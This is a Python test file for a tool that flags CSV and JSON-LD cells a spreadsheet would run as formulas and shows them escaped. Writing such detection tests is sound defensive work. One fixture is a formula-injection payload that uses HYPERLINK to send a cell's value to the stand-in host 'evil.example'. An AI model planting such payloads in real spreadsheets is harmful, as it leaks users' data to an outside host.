"""Cells a spreadsheet would run as formulas are flagged for review, shown escaped."""

from __future__ import annotations

from airlock.checks import Verdict
from tests.checks_support import cells, check, finding, rules, write


def test_formula__cells_starting_with_formula_characters_need_review(tmp_path):
    path = write(
        tmp_path,
        "t.csv",
        'label,x\n=HYPERLINK("http://evil.example/?"&A1),1.5\n@SUM(A1:A2),2.5\n+cmd,3.5\n'
        "-x,4.5\nplain,5.5\n",
    )
    report = check(path)
    assert report.verdict is Verdict.REVIEW
    assert cells(report, "formula") == {(1, "label"), (2, "label"), (3, "label"), (4, "label")}
    assert finding(report, "formula").location.value.startswith("'=HYPERLINK(")


def test_formula__numbers_with_signs_are_not_formulas(tmp_path):
    path = write(tmp_path, "t.csv", "label,beta\n-0.5,-1.2e-05\n+3,+4\n-,x\n")
    assert "formula" not in rules(check(path))


def test_formula__in_column_names(tmp_path):
    report = check(write(tmp_path, "t.csv", "=1+1,x\na,1.5\n"))
    assert cells(report, "formula") == {(0, "'=1+1")}


def test_formula__json_ld_keywords_are_not_formulas_but_calls_after_them_are(tmp_path):
    """A HealthDCAT-AP description's "@type" keys run nothing in a spreadsheet; "@SUM(...)" does."""
    doc = (
        '{"@context": {"dcat": "http://www.w3.org/ns/dcat#"},'
        ' "dataset": [{"@id": "dk", "@type": "dcat:Dataset", "title": "@SUM(A1:A2)"},'
        ' {"@id": "se", "@type": "dcat:Dataset", "title": "plain"}]}'
    )
    report = check(write(tmp_path, "dataset.jsonld", doc))
    flagged = [f.location.value for f in report.findings if f.rule == "formula"]
    assert flagged == ["'@SUM(A1:A2)"], flagged
